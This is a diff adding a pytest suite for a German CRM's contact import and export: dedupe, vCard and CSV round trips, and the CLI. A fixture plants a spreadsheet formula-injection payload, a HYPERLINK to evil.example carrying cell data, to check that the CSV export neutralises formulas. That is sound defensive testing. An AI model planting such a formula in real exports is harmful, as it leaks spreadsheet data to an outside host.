@@ -1,0 +1,245 @@
+"""Import planning, dry run, applying, dedupe, round trips and the CLI – on SQLite and PostgreSQL."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+from click.testing import CliRunner
+from sqlalchemy import delete, func, select
+
+from kundenakte.core.exchange import ContactRecord, read_records
+from kundenakte.core.exchange.cli import exchange_group, register
+from kundenakte.core.exchange.exporter import export_contacts, iter_records
+from kundenakte.core.exchange.importer import apply_import, plan_import
+from kundenakte.core.models import Company, Contact, IndexQueue, User
+from kundenakte.core.users import create_user
+
+DATA = Path(__file__).parent / "data"
+INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"Klick")'
+
+
+def _counts(ka) -> tuple[int, int, int]:  # type: ignore[no-untyped-def]
+    with ka.db.read() as s:
+        return tuple(int(s.scalar(select(func.count()).select_from(m)) or 0) for m in (Contact, Company, IndexQueue))  # type: ignore[return-value]
+
+
+def _plan(ka, records, **kw):  # type: ignore[no-untyped-def]
+    with ka.db.read() as s:
+        return plan_import(s, records, **kw)
+
+
+def _import_file(ka, name: str, **kw):  # type: ignore[no-untyped-def]
+    plan = _plan(ka, read_records((DATA / name).read_bytes(), filename=name), **kw)
+    return plan, apply_import(ka, plan)
+
+
+def test_dry_run_changes_nothing_and_explains(ka) -> None:  # type: ignore[no-untyped-def]
+    before = _counts(ka)
+    plan = _plan(ka, read_records((DATA / "outlook_de.csv").read_bytes()))
+    assert _counts(ka) == before
+    actions = [(i.action, i.reason) for i in plan.items]
+    assert actions[3] == ("skip", "Nachname fehlt")
+    assert [a for a, _ in actions] == ["create", "create", "create", "skip", "create"]
+    assert "Firma „Müller & Söhne GmbH“ wird angelegt" in actions[0][1]
+    assert len(plan.new_companies) == 2
+    assert plan.summary() == "5 Datensätze: 4 neu, 0 aktualisieren, 1 überspringen; 2 neue Firma(en)."
+
+
+def test_outlook_import_companies_addresses_index_queue(ka) -> None:  # type: ignore[no-untyped-def]
+    plan, result = _import_file(ka, "outlook_de.csv")
+    assert (result.created, result.updated, result.skipped, result.companies_created) == (4, 0, 1, 2)
+    assert _counts(ka) == (4, 2, 6)  # one queue row per new contact and company
+    with ka.db.read() as s:
+        contacts = {c.last_name: c for c in s.scalars(select(Contact))}
+        weiss, gross, oeztuerk = contacts["Weiß"], contacts["Groß"], contacts["Öztürk"]
+        company = weiss.company
+        assert company is gross.company and company.name == "Müller & Söhne GmbH"
+        assert (company.street, company.postal_code, company.city) == ("Hauptstraße 5", "80331", "München")
+        assert company.name_folded == "mueller & soehne gmbh" and company.city_folded == "muenchen"
+        assert company.phone == "+49 89 1000" and company.web == "www.mueller-soehne.de"
+        # same address as the company: uses it, no own copy
+        assert weiss.use_company_address and gross.use_company_address and weiss.street == ""
+        # no company: own address
+        assert not oeztuerk.use_company_address and oeztuerk.city == "Köln" and oeztuerk.city_folded == "koeln"
+        assert weiss.name_folded == "juergen weiss" and weiss.gender == "male" and weiss.title == "Dr."
+        assert oeztuerk.language == "de" and oeztuerk.company_id is None
+        keys = set(s.scalars(select(IndexQueue.object_key)))
+        assert f"contact:{weiss.id}" in keys and f"company:{company.id}" in keys
+    ka.search.flush()
+    assert _counts(ka)[2] == 0
+
+
+def test_reimport_skips_duplicates_and_updates_changes(ka) -> None:  # type: ignore[no-untyped-def]
+    _import_file(ka, "outlook_de.csv")
+    plan = _plan(ka, read_records((DATA / "outlook_de.csv").read_bytes()))
+    assert [i.action for i in plan.items] == ["skip"] * 5
+    with ka.db.read() as s:
+        weiss_id = s.scalar(select(Contact.id).where(Contact.last_name == "Weiß"))
+        gross_id = s.scalar(select(Contact.id).where(Contact.last_name == "Groß"))
+    assert plan.items[0].reason == f"Dublette: gleiche E-Mail wie Kontakt #{weiss_id} – keine Änderungen"
+    # the vCard: same people, e-mail in other case, new data
+    plan, result = _import_file(ka, "contacts30.vcf")
+    by_name = {i.record.last_name: i for i in plan.items}
+    assert by_name["Groß"].action == "skip"  # A.Gross@… in another case, nothing new
+    assert by_name["Groß"].reason.startswith(f"Dublette: gleiche E-Mail wie Kontakt #{gross_id}")
+    assert by_name["Weiß"].action == "skip"  # everything the card says is known already
+    assert result.updated == 0 and result.created == 3
+    changed = ContactRecord(last_name="Weiss", first_name="Jürgen", email="JUERGEN.WEISS@mueller-soehne.de",
+                            phone="+49 89 999", city="München", gender="unknown", title="")
+    plan = _plan(ka, [changed])
+    (item,) = plan.items
+    assert item.action == "update" and item.contact_id == weiss_id
+    assert item.reason == f"Dublette: gleiche E-Mail wie Kontakt #{weiss_id} – ändert Telefon, Ort"
+    apply_import(ka, plan)
+    with ka.db.read() as s:
+        contact = s.get(Contact, weiss_id)
+        # "Weiss" is only another spelling of "Weiß": the existing one stays
+        assert (contact.last_name, contact.phone, contact.city) == ("Weiß", "+49 89 999", "München")
+        assert contact.gender == "male" and contact.title == "Dr."  # unknown and empty never overwrite
+        assert contact.name_folded == "juergen weiss" and contact.city_folded == "muenchen"
+        assert contact.company.name == "Müller & Söhne GmbH"
+        assert f"contact:{weiss_id}" in set(s.scalars(select(IndexQueue.object_key)))
+
+
+def test_duplicate_by_name_and_company_and_namesakes(ka) -> None:  # type: ignore[no-untyped-def]
+    records = [
+        ContactRecord(last_name="Müller", first_name="Eva", company_name="Firma A", phone="1"),
+        ContactRecord(last_name="Mueller", first_name="EVA", company_name="FIRMA A", phone="2", source="zweite"),
+        ContactRecord(last_name="Müller", first_name="Eva", company_name="Firma B"),
+        ContactRecord(last_name="Müller", first_name="Eva", email="eva@a.de"),
+        ContactRecord(last_name="Müller", first_name="Eva", email="other@a.de"),  # a namesake
+        ContactRecord(last_name="Müller", first_name="Eva", email="EVA@A.DE", phone="9"),
+    ]
+    plan = _plan(ka, records)
+    assert [i.action for i in plan.items] == ["create", "skip", "create", "create", "create", "skip"]
+    assert plan.items[1].reason == "Dublette: gleicher Name und gleiche Firma wie Datensatz 1 dieser Datei"
+    assert plan.items[5].reason == "Dublette: gleiche E-Mail wie Datensatz 4 dieser Datei"
+    apply_import(ka, plan)
+    plan = _plan(ka, [records[1]])
+    (item,) = plan.items
+    assert item.action == "update" and item.changes == ["Telefon"]
+    plan = _plan(ka, [records[1]], update_existing=False)
+    assert plan.items[0].action == "skip" and "nicht aktualisiert (Telefon)" in plan.items[0].reason
+
+
+def test_validation_and_unknown_manager(ka) -> None:  # type: ignore[no-untyped-def]
+    plan = _plan(ka, [
+        ContactRecord(last_name="x" * 121),
+        ContactRecord(last_name="Kurz", company_name="F" * 201),
+        ContactRecord(last_name="Leer", account_manager="niemand", email="kaputt"),
+        ContactRecord(first_name="Nur Vorname"),
+    ])
+    assert plan.items[0].reason == "Nachname zu lang (121 Zeichen, höchstens 120)"
+    assert plan.items[1].reason == "Firma zu lang (201 Zeichen, höchstens 200)"
+    assert plan.items[2].action == "create"
+    assert plan.items[2].warnings == ["E-Mail-Adresse „kaputt“ sieht ungültig aus",
+                                      "Kundenbetreuer „niemand“ unbekannt – nicht zugeordnet"]
+    assert plan.items[3].reason == "Nachname fehlt"
+
+
+def test_existing_company_with_other_address_keeps_own_address(ka) -> None:  # type: ignore[no-untyped-def]
+    with ka.db.write() as s:
+        s.add(Company(name="Bäckerei Süß", street="Backstraße 1", postal_code="10115", city="Berlin"))
+    plan, result = _import_file(ka, "google.csv")
+    assert result.companies_created == 0
+    with ka.db.read() as s:
+        contacts = {c.last_name: c for c in s.scalars(select(Contact))}
+        assert contacts["Weißenböck"].company.name == "Bäckerei Süß"
+        assert not contacts["Weißenböck"].use_company_address and contacts["Weißenböck"].street == "Brotgasse 7"
+        assert contacts["Yılmaz"].use_company_address  # no address of her own
+
+
+def _people(ka) -> None:  # type: ignore[no-untyped-def]
+    with ka.db.write() as s:
+        owner = create_user(s, "owner", "geheim-123", display_name="Owner", password_hash="x")
+        admin = create_user(s, "admin", "geheim-123", display_name="Admin", password_hash="x")
+        dochouse = Company(name="DOCHOUSE GmbH", street="Industriestraße 3", postal_code="97076", city="Würzburg",
+                           country="Deutschland", phone="+49 931 1", email="info@dochouse.example",
+                           web="https://dochouse.example", account_manager=admin)
+        odd = Company(name="Müller, Meier; Partner", street="Weg 1\nHof", postal_code="1010", city="Wien",
+                      country="Österreich")
+        bare = Company(name="Ohne Adresse AG", country="")
+        s.add_all([dochouse, odd, bare])
+        s.add_all([
+            Contact(gender="female", title="Dr.", first_name="Katrin", last_name="Vogel", company=dochouse,
+                    salutation_override="Liebe Katrin", language="de", position="Geschäftsführerin",
+                    email="k.vogel@dochouse.example", phone="+49 931 2", use_company_address=True,
+                    account_manager=owner),
+            Contact(gender="male", first_name="Jonas", last_name="Öztürk", company=dochouse, language="en",
+                    email="J.Oeztuerk@dochouse.example", use_company_address=False,
+                    street="Hinterhof 2\nAufgang B", postal_code="97070", city="Würzburg", country="Österreich"),
+            Contact(gender="diverse", title="Prof. Dr.", first_name="", last_name=INJECTION, position="+Chef",
+                    phone="-1", salutation_override="@home", street="Gartenweg 3", postal_code="50667",
+                    city="'=apostroph", country="Deutschland", use_company_address=True),
+            Contact(gender="unknown", first_name="Großherzog", last_name="Weiß-Straße", company=odd,
+                    email="gross@example.at", use_company_address=True, street="Alte Adresse 9", city="Graz"),
+            Contact(first_name="Bernd", last_name="Ohne", company=bare, use_company_address=False),
+        ])
+
+
+def _snapshot(ka) -> list[ContactRecord]:  # type: ignore[no-untyped-def]
+    with ka.db.read() as s:
+        return sorted(iter_records(s), key=lambda r: (r.last_name, r.first_name))
+
+
+@pytest.mark.parametrize(("fmt", "version", "suffix"), [("vcard", "3.0", "vcf"), ("vcard", "4.0", "vcf"), ("csv", "4.0", "csv")])
+def test_round_trip_export_wipe_import(ka, tmp_path: Path, fmt: str, version: str, suffix: str) -> None:  # type: ignore[no-untyped-def]
+    _people(ka)
+    before = _snapshot(ka)
+    assert len(before) == 5
+    target = tmp_path / f"export.{suffix}"
+    assert export_contacts(ka, target, fmt=fmt, version=version) == 5
+    with ka.db.write() as s:
+        s.execute(delete(Contact))
+        s.execute(delete(Company))
+    assert _counts(ka)[:2] == (0, 0)
+    plan = _plan(ka, read_records(target.read_bytes(), filename=target.name))
+    assert [i.action for i in plan.items] == ["create"] * 5, [i.reason for i in plan.items]
+    apply_import(ka, plan)
+    after = _snapshot(ka)
+    for a, b in zip(before, after):
+        assert a == b
+    assert _counts(ka)[:2] == (5, 3)
+    # and importing the export once more changes nothing
+    again = _plan(ka, read_records(target.read_bytes(), filename=target.name))
+    assert {i.action for i in again.items} == {"skip"}
+
+
+def test_csv_export_neutralises_formulas(ka, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
+    _people(ka)
+    target = tmp_path / "k.csv"
+    export_contacts(ka, target, fmt="csv")
+    raw = target.read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbf")
+    text = raw.decode("utf-8-sig")
+    assert ";\"'=HYPERLINK(" in text or ";'=HYPERLINK(" in text
+    assert "'+Chef" in text and "'-1" in text and "'@home" in text and "''=apostroph" in text
+
+
+def test_cli_dry_run_import_export(ka, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
+    from kundenakte.cli import Context
+
+    obj = Context()
+    obj._ka = ka
+    runner = CliRunner()
+    result = runner.invoke(exchange_group, ["import", str(DATA / "contacts40.vcf"), "--dry-run"], obj=obj)
+    assert result.exit_code == 0, result.output
+    assert "Probelauf: nichts geändert." in result.output
+    assert "Karte 1 (Zeile 1): Marie Luise Köhler: neu" in result.output
+    assert _counts(ka) == (0, 0, 0)
+    result = runner.invoke(exchange_group, ["import", str(DATA / "contacts40.vcf")], obj=obj)
+    assert result.exit_code == 0, result.output
+    assert "5 Kontakt(e) angelegt" in result.output
+    out = tmp_path / "alle.vcf"
+    result = runner.invoke(exchange_group, ["export", str(out), "--version", "3.0"], obj=obj)
+    assert result.exit_code == 0, result.output
+    assert out.read_text("utf-8").count("BEGIN:VCARD") == 5 and "VERSION:3.0" in out.read_text("utf-8")
+    result = runner.invoke(exchange_group, ["import", str(DATA / "google.csv"), "--mapping", "kundenakte"], obj=obj)
+    assert result.exit_code != 0 and "keine Namensspalte" in result.output
+
+    import click
+
+    group = click.Group("kundenakte")
+    register(group)
+    assert group.commands["kontakte"] is exchange_group
